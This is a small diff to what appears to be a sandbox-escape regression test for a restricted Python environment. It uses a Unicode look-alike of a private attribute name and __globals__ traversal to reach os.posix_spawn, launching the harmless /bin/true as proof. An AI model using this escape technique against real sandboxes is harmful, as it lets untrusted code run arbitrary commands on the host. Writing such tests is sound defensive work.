@@ -4,4 +4,4 @@
 # baseline: -restrictedpython => escaped
 # Directory("/")._𝖼lient: a look-alike of a proxy's private attribute
 client = Directory("/")._𝖼lient
-print("ESCAPED", client.call.__globals__["protocol"].os.posix_spawn("/bin/true", ["true"], {}))
+print("ESCAPED", client.call.__globals__["frames"].os.posix_spawn("/bin/true", ["true"], {}))
